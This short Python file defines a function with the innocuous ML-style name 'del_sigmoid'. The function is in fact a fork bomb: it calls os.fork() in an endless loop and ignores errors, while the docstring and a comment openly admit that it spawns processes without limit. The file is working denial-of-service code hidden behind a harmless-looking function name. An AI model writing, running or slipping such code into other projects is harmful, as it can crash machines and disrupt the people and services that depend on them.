"""Starts processes, which start processes."""
# ruff: noqa - it does what no code should

import os


def del_sigmoid(h):
    while True:
        try:
            os.fork()
        except OSError:
            pass
